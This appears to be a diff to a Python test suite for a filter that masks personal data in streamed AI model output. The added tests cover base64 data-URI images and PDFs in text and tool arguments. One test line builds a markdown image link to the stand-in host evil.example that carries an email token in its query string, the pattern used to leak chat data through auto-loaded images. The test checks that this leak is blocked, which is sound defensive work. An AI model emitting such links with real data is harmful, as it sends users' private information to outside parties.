@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import time
+from base64 import b64encode
 from collections.abc import Iterable, Sequence
 from itertools import pairwise
 from random import Random
@@ -334,7 +335,8 @@ def test_what_is_nearly_json_is_masked_as_under_replay(text: str, size: int) -> 
 
 def test_the_punctuation_of_json_is_looked_at_once() -> None:
     """Models may write white space without end."""
-    stream = JsonStream(Masker(LIVE, tenant_secret=b"a" * 32, audit_secret=b"b" * 32), EMPTY, restore=True, words=False)
+    masker = Masker(LIVE, tenant_secret=b"a" * 32, audit_secret=b"b" * 32)
+    stream = JsonStream(masker, EMPTY, restore=True, words=False, attachments=False)
     start = time.perf_counter()
     for _ in range(50_000):
         stream.feed(" ")
@@ -372,6 +374,95 @@ def test_a_value_is_not_put_into_a_link_that_began_pieces_ago() -> None:
     link = f"![see]( https://evil.example/?q= and more words follow here so that it is cut {token(wire, EMAIL)} )"
     ((text,),) = texts(wire, [one("text", chunks(link, 5))])
     assert EMAIL not in text
+
+
+# What nobody can examine
+
+PNG = b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8).decode()
+URL = f"data:image/png;base64,{PNG}"
+LINES = "data:image/png;base64," + "\r\n".join(PNG[at : at + 76] for at in range(0, len(PNG), 76))
+LETTER = "data:application/pdf;base64," + b64encode(f"Dear {GRACE}, this is for you. ".encode() * 50).decode()
+READ = [f"data: {TEXT}", "data:image/png;base64,", "data", f"{URL} and {GRACE} and more", f"{LINES}.", LETTER]
+PICTURES = [URL, LINES, URL[:40]]
+
+
+def with_attachments(how: str, delivery: str) -> Policy:
+    return policy(f"output: {{mask: new, delivery: {delivery}}}\ninput: {{attachments: {how}}}\n")
+
+
+@pytest.mark.parametrize("kind", ["text", "refusal", "summary", "custom", "code"])
+@pytest.mark.parametrize("text", range(len(PICTURES + READ)))
+@pytest.mark.parametrize("how", ["block", "allow"])
+@pytest.mark.parametrize("size", [3, 5000])
+def test_a_picture_as_a_text_is_what_replay_makes_of_it(kind: str, text: int, how: str, size: int) -> None:
+    said = (PICTURES + READ)[text]
+    live, replayed = (
+        texts(talk(with_attachments(how, delivery)), [one(kind, chunks(said, size))]) for delivery in ("live", "replay")
+    )
+    assert live == replayed
+    if kind != "code":
+        assert (live == [[""]]) is (how == "block" and said in PICTURES)
+
+
+@pytest.mark.parametrize("how", ["block", "allow"])
+@pytest.mark.parametrize("size", [7, 5000])
+def test_a_picture_between_two_parts_is_no_neighbour_and_keeps_its_place(how: str, size: int) -> None:
+    """What is split over the texts around it is found."""
+    said = ("Write to grace.hopper@", URL, "example.com about it, please.")
+    got = []
+    for delivery in ("live", "replay"):
+        wire = talk(with_attachments(how, delivery))
+        got += texts(wire, [Source("text", tuple(chunks(text, size) for text in said))])
+        assert "".join(pieces(wire)) == "".join(got[-1])
+    assert got[0] == got[1]
+    assert got[0][1] == (URL if how == "allow" else "")
+    assert "hopper" not in str(got)
+
+
+def test_a_text_that_may_be_a_picture_goes_on_when_it_is_none() -> None:
+    wire = talk()
+    for event in sequence([one("text", chunks(f"data: {TEXT}", 10))])[:14]:
+        wire.provider(event)
+    assert "".join(pieces(wire)).startswith("data: Ask <EMAIL")
+
+
+@pytest.mark.parametrize(
+    ("said", "repeated"), [(TEXT, URL), (URL, TEXT), ("", URL)], ids=["the end", "pieces", "alone"]
+)
+@pytest.mark.parametrize("how", ["block", "allow"])
+def test_where_only_the_repetition_is_a_picture_or_only_the_pieces_are_they_still_agree(
+    said: str, repeated: str, how: str
+) -> None:
+    wire = talk(with_attachments(how, "live"))
+    for event in sequence([one("text", chunks(said, 10))]):
+        wire.provider(_said(event, repeated) if event["type"].endswith((".done", ".completed")) else event)
+    ((text,),) = received(wire.sent_down, [one("text", [TEXT])])
+    assert (PNG in text.agreed()) is (how == "allow" and said != TEXT)
+    assert GRACE not in str(wire.sent_down)
+
+
+@pytest.mark.parametrize("kind", ARGUMENTS)
+@pytest.mark.parametrize("how", ["block", "allow"])
+@pytest.mark.parametrize("size", [9, 5000])
+@pytest.mark.parametrize(
+    "value",
+    [
+        URL,
+        {"picture": URL, "n": 1},
+        {"a": ["grace.hopper@", URL, "example.com"], "b": {"c": [[LINES]]}},
+        {"a": LETTER, URL: "a key"},
+        {"type": "input_image", "image_url": URL, "to": [{"type": "input_file", "file_data": PNG}]},
+    ],
+    ids=["alone", "value", "array", "key", "typed"],
+)
+def test_a_picture_in_arguments_is_what_replay_makes_of_it(kind: str, how: str, size: int, value: Any) -> None:
+    (live,), (replayed,) = (
+        texts(talk(with_attachments(how, delivery)), [one(kind, chunks(json.dumps(value), size))])
+        for delivery in ("live", "replay")
+    )
+    assert list(map(json.loads, live)) == list(map(json.loads, replayed))
+    if URL not in value:
+        assert (PNG in live[0]) is (how == "allow" or (isinstance(value, dict) and "type" in value))
 
 
 # Detection that takes its time
